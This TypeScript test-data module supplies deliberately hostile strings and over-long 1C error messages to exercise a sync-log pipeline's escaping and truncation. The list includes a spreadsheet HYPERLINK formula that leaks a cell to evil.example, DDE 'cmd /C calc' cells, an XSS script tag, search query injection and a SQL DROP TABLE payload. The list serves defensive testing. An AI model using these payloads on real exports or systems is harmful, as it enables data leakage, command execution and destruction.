import { LIMITS } from '../../opensearch/record/vocabulary.ts';
import type { SeededRandom } from './seeded-random.ts';

/**
 * Strings that break naive code downstream: CSV/XLSX exports that let a cell start a formula,
 * HTML views that do not escape, query builders that pass text into `query_string`, and
 * encoders that mishandle quotes, backslashes, control characters or surrogate pairs.
 */
export const HOSTILE_STRINGS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Открыть отчёт")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'ООО "Рога и копыта"',
  "Д'Артаньян и сыновья",
  'C:\\1C\\Базы\\Торговля\\',
  'строка 1\nстрока 2\r\nстрока 3',
  'колонка 1\tколонка 2',
  '<script>alert("synclog")</script>',
  'Отгрузка 🚚 выполнена ✅ 👍🏽',
  'status:error OR *',
  'customer.name:(* AND NOT "x") OR _exists_:error_message',
  '\\"; DROP TABLE sync_log; --',
] as const;

/**
 * Hands out the hostile strings in turn, so that every one of them appears as soon as the
 * generator has asked for as many as there are, whatever the seed.
 */
export interface HostileCycle {
  next(): string;
}

export function hostileCycle(): HostileCycle {
  let index = 0;
  return { next: () => HOSTILE_STRINGS[index++ % HOSTILE_STRINGS.length]! };
}

/**
 * An error message longer than the index keeps, as when 1C answers with a whole HTML or XML
 * error page: it must be truncated with its original length recorded. `size` is a multiple of the
 * limit so that the stack, which repeats the message, can overflow its own limit too.
 */
export function overLongErrorMessage(random: SeededRandom, size: number): string {
  const head = `1C returned an unexpected response for request ${random.faker.string.uuid()}: `;
  const parts = [head];
  let length = head.length;
  for (let row = 1; length < size; row++) {
    const code = random.int(100, 999);
    const part = `<Строка номер="${row}"><Ошибка код="${code}">Неверный формат реквизита</Ошибка></Строка>`;
    parts.push(part);
    length += part.length;
  }
  return parts.join('');
}

/** The sizes of the over-long messages: the first overflows the message limit only, the second the stack's too. */
export const OVER_LONG_SIZES = [LIMITS.errorMessageChars + 3_000, LIMITS.errorStackChars + 2_000] as const;
